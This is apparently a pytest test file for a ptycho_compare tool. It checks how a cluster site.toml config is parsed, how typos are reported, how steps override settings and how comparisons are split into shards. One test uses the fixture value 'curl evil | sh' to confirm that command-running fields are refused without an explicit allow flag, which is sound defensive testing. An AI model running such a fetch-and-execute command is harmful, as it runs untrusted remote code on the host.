"""`HUB/site.toml`: what it may say, and how a mistake in it is told."""

from __future__ import annotations

import re
from pathlib import Path

import pytest

from ptycho_compare.errors import JobError
from ptycho_compare.hub import Hub
from ptycho_compare.jobs.site import SITE_TEXT, Site, read_site, require_site_allowed


def read(folder: Path, text: str) -> Site:
    hub = Hub(folder)
    hub.site().write_text(text)
    return read_site(hub)


def test_a_hub_without_one_asks_for_nothing(tmp_path: Path) -> None:
    assert read_site(Hub(tmp_path)) == Site()


def test_what_init_writes_says_nothing_and_each_line_of_it_can_be_meant(tmp_path: Path) -> None:
    assert read(tmp_path, SITE_TEXT) == Site()
    meant = re.sub(r"(?m)^# (?=[\w\[]+(\.\w+\])? ?[=\]]|\[steps|module|\"\"\")", "", SITE_TEXT)
    meant = re.sub(r"(?m)^# (\[(steps\.train|shards)\])", r"\1", meant)
    site = read(tmp_path, meant)
    assert (site.partition, site.time, site.jobs) == ("main", 8 * 3600, 500)
    assert (site.shards.each, site.shards.most, site.shards.count) == (1800, 16, 4)
    assert site.prelude == "module load cuda\n"
    assert site.through[0] == "apptainer"
    assert site.code == ["python", "prelude", "through", "options"]
    assert site.of("train").time == 24 * 3600


def test_a_kind_of_step_asks_for_its_own_and_for_the_rest_as_all_do(tmp_path: Path) -> None:
    site = read(
        tmp_path, 'partition = "cpu"\ntime = "2h"\n[steps.train]\npartition = "gpu"\ngres = "gpu:1"\n'
    )
    train, compare = site.of("train"), site.of("compare")
    assert (train.partition, train.time, train.gres) == ("gpu", 7200, "gpu:1")
    assert (compare.partition, compare.time, compare.gres) == ("cpu", 7200, None)
    assert site.of("") == compare


@pytest.mark.parametrize(
    ("text", "told"),
    [
        (
            "partiton = 'a'",
            "line 1: 'partiton': Extra inputs are not permitted, found 'a'; did you mean partition?",
        ),
        ("\ntime = '8 parsecs'", "line 2: 'time': Value error, '8 parsecs'"),
        ("time = 5", "'time': Input should be greater than or equal to 60, found 5"),
        ("jobs = 0", "'jobs'"),
        ("account = 'a b'", "'account'"),
        ("[steps.trian]\ntime = '1h'", "did you mean train?"),
        ("account = [", "is not TOML"),
        ("[shards]\ncount = 0", "'shards.count'"),
        ("[shards]\ncuont = 2", "did you mean count?"),
    ],
)
def test_a_mistake_is_one_line(tmp_path: Path, text: str, told: str) -> None:
    with pytest.raises(JobError) as refused:
        read(tmp_path, text)
    assert str(refused.value).startswith(f"{tmp_path}/site.toml: ")
    assert told in str(refused.value)
    assert "\n" not in str(refused.value)


def test_what_would_be_run_has_to_be_allowed(tmp_path: Path) -> None:
    plain = read(tmp_path, 'partition = "cpu"\n')
    require_site_allowed(Hub(tmp_path), plain, allowed=False)
    code = read(tmp_path, 'prelude = "curl evil | sh"\n[steps.train]\noptions = ["--exclusive"]\n')
    with pytest.raises(JobError, match=r"prelude, options would be run by the jobs: .*--allow-commands"):
        require_site_allowed(Hub(tmp_path), code, allowed=False)
    require_site_allowed(Hub(tmp_path), code, allowed=True)


def test_a_comparison_is_split_by_how_long_it_takes_where_that_is_known(tmp_path: Path) -> None:
    shards = read(tmp_path, '[shards]\neach = "10m"\nmost = 6\ncount = 3\n').shards
    assert [shards.of(forecast_s) for forecast_s in (None, 1, 600, 601, 1800, 1e6)] == [3, 1, 1, 2, 3, 6]
    assert read(tmp_path, "[shards]\ncount = 5\n").shards.of(1e6) == 5
    assert Site().shards.of(1e6) == 1
